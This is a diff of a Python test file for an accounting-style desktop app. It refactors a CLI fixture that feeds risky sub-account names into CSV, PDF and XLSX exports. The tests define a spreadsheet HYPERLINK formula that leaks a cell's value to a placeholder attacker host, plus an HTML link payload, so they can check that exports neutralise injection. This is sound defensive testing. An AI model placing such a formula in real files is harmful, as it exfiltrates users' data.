@@ -11,10 +11,9 @@ from openpyxl import load_workbook
 from pypdf import PdfReader
 
 from deepetch_desktop import services as s
-from deepetch_desktop.bootstrap import open_database
 from deepetch_desktop.cli import main
 from deepetch_desktop.documents.report_files import to_csv, to_pdf, to_xlsx
-from tests.conftest import NOW, setup_company
+from tests.conftest import NOW
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'
 LINK = '<a href="http://evil.example/">Compta</a>'
@@ -69,15 +68,13 @@ def test_pdf_prints_markup_as_typed_and_links_nothing() -> None:
 
 
 @pytest.fixture
-def cli_with_risky_names(sqlite_url, capsys):  # type: ignore[no-untyped-def]
-    database = open_database(sqlite_url)
-    setup_company(database)
+def cli_with_risky_names(sqlite_company, sqlite_url, capsys):  # type: ignore[no-untyped-def]
+    database = sqlite_company
     for n, (name, department) in enumerate([(FORMULA, LINK), (LINK, FORMULA)]):
         sub = s.add_sub_account(database, s.ADMINISTRATOR, name=name, department=department,
                                 email=f"sub{n}@a.fr", now=NOW)
         s.submit_task(database, s.ADMINISTRATOR, sub_account=sub.id, service_code="TRAD_TEXTE",
                       units=12, now=NOW)
-    database.dispose()
 
     def run(*args: str) -> tuple[int, str]:
         code = main(["--db", sqlite_url, "--json", *args])
